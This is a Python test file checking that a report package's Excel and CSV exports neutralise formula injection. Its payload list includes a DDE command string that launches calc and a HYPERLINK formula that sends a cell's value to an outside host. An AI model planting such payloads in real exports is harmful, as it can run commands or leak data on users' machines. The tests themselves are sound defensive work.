"""Input hardening: no formula in a workbook or CSV export, a strict ``synthetic`` flag, and no
identifying value in a validation message on data flagged real."""

from __future__ import annotations

import io
import json
import shutil
from pathlib import Path

import pandas as pd
import pyarrow.parquet as pq
import pytest
from openpyxl import load_workbook

from careval.report.workbook import FORMULA_START, csv_text, write_workbook

DANGEROUS = [
    '=HYPERLINK("http://example.org/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",  # full-width equals sign
    "-5",  # text that looks like a number stays text
]


def _cells(path: Path) -> list:  # type: ignore[type-arg]
    wb = load_workbook(path)
    return [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]


def test_no_string_in_the_workbook_is_a_formula(tmp_path: Path) -> None:
    results = {
        "surveys": {
            "groups": [
                {"group": s, "answer": s, "n": -3, "share": -0.25} for s in DANGEROUS
            ],
            "note": "=1+1",
        },
        "qualitative": {"codes": [{"=code": "@code", "count": 4, "nested": {"a": 1}}]},
        "figure": -12.5,
        "label": "=A1",
    }
    write_workbook(results, tmp_path / "t.xlsx")
    cells = _cells(tmp_path / "t.xlsx")
    strings = [c.value for c in cells if isinstance(c.value, str)]
    assert all(c.data_type != "f" for c in cells)
    assert not [s for s in strings if s.startswith(FORMULA_START)]
    for s in DANGEROUS + ["=1+1", "@code", "=code", "=A1"]:
        assert "'" + s in strings, s  # written in full, behind one quote
    numbers = [c.value for c in cells if c.data_type == "n" and c.value is not None]
    assert numbers.count(-3) == len(DANGEROUS) and numbers.count(-0.25) == len(DANGEROUS)
    assert -12.5 in numbers and 4 in numbers
    assert "-5" not in strings and "'-5" in strings  # text stays text, neutralised


def test_control_characters_do_not_break_the_workbook(tmp_path: Path) -> None:
    write_workbook({"t": [{"answer": "\x01=1+1", "ok": "fine\ttext"}]}, tmp_path / "t.xlsx")
    strings = [c.value for c in _cells(tmp_path / "t.xlsx") if isinstance(c.value, str)]
    assert "\ufffd=1+1" in strings and "fine\ttext" in strings


def test_csv_exports_are_neutralised_and_keep_numbers() -> None:
    df = pd.DataFrame({"answer": DANGEROUS, "n": range(-4, len(DANGEROUS) - 4), "=x": "a"})
    text = csv_text(df)
    back = pd.read_csv(io.StringIO(text), keep_default_na=False)
    assert list(back.columns) == ["answer", "n", "'=x"]
    assert back["answer"].tolist() == ["'" + s for s in DANGEROUS]
    assert back["n"].tolist() == list(range(-4, len(DANGEROUS) - 4))
    assert df["answer"].tolist() == DANGEROUS  # the frame given is not altered
